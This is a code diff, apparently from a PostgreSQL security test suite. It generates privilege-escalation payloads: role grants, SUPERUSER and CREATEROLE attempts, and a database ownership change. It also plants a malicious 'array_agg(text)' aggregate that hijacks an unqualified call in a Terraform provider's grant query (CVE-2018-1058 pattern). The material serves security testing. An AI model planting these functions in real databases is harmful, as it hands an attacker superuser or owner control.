@@ -20,12 +20,17 @@ export function recorderSql(schema: string): string {
 /** The body that records the run and tries to escalate `attacker` (plpgsql, inside BEGIN … END). */
 export function escalationBody(schema: string, attacker: string, owner: string, serverAdmin: string): string {
   const a = quoteIdent(attacker);
+  const migrator = quoteIdent(owner.replace(/__owner$/, '__migrator'));
   const attempts = [
     `RESET ROLE; ALTER ROLE ${a} SUPERUSER;`,
     `SET ROLE ${quoteIdent(serverAdmin)}; ALTER ROLE ${a} SUPERUSER;`,
     `RESET ROLE; GRANT ${quoteIdent(serverAdmin)} TO ${a};`,
     `RESET ROLE; GRANT ${quoteIdent(owner)} TO ${a};`,
     `GRANT ${quoteIdent(owner)} TO ${a};`,
+    `RESET ROLE; GRANT ${migrator} TO ${a};`,
+    `GRANT ${migrator} TO ${a};`,
+    `RESET ROLE; ALTER ROLE ${a} CREATEROLE;`,
+    `EXECUTE pg_catalog.format('ALTER DATABASE %I OWNER TO %I', pg_catalog.current_database(), ${quoteLiteral(attacker)});`,
     `RESET SESSION AUTHORIZATION; ALTER ROLE ${a} SUPERUSER;`,
   ];
   return [
@@ -100,6 +105,49 @@ $fn$;`,
     `GRANT EXECUTE ON FUNCTION usual_store_meta.escalate() TO PUBLIC;`,
     `CREATE VIEW usual_store_meta.schema_migrations AS SELECT usual_store_meta.escalate() AS version, ''::text AS name, ''::text AS md5, now() AS run_at;`,
     `GRANT ALL ON usual_store_meta.schema_migrations TO PUBLIC;`,
+  ].join('\n');
+}
+
+/**
+ * cyrilgdn/postgresql's `postgresql_grant` read for object_type table
+ * (resource_postgresql_grant.go, readRolePrivileges), verbatim: it runs
+ * after every create and on every plan. `array_agg` and `array_remove` are
+ * not schema-qualified, and the provider sets no search path.
+ */
+export const PROVIDER_GRANT_READ = `
+SELECT pg_class.relname, array_remove(array_agg(privilege_type), NULL)
+FROM pg_class
+JOIN pg_namespace ON pg_namespace.oid = pg_class.relnamespace
+LEFT JOIN (
+    SELECT acls.* FROM (
+        SELECT relname, relnamespace, relkind, (aclexplode(relacl)).* FROM pg_class c
+    ) as acls
+    WHERE grantee=$1
+) privs
+USING (relname, relnamespace, relkind)
+WHERE nspname = $2 AND relkind = $3
+GROUP BY pg_class.relname
+`;
+
+/**
+ * An `array_agg(text)` aggregate in `schema` whose transition function
+ * escalates: an exact match for `array_agg(text)`, so it beats the
+ * catalog's polymorphic `array_agg(anynonarray)` wherever `schema` is on the
+ * search path (CVE-2018-1058's pattern).
+ */
+export function plantedAggregateSql(schema: string, attacker: string, owner: string, serverAdmin: string, withSchema = true): string {
+  const s = `"${schema}"`;
+  return [
+    ...(withSchema ? [`CREATE SCHEMA IF NOT EXISTS ${s};`, recorderSql(schema)] : []),
+    `CREATE FUNCTION ${s}.escalating_step(state text[], value text) RETURNS text[] LANGUAGE plpgsql AS $fn$
+DECLARE saved text;
+BEGIN
+  ${escalationBody(schema, attacker, owner, serverAdmin)}
+  RETURN pg_catalog.array_append(state, value);
+END
+$fn$;`,
+    `GRANT EXECUTE ON FUNCTION ${s}.escalating_step(text[], text) TO PUBLIC;`,
+    `CREATE AGGREGATE ${s}.array_agg(text) (SFUNC = ${s}.escalating_step, STYPE = text[]);`,
   ].join('\n');
 }
 
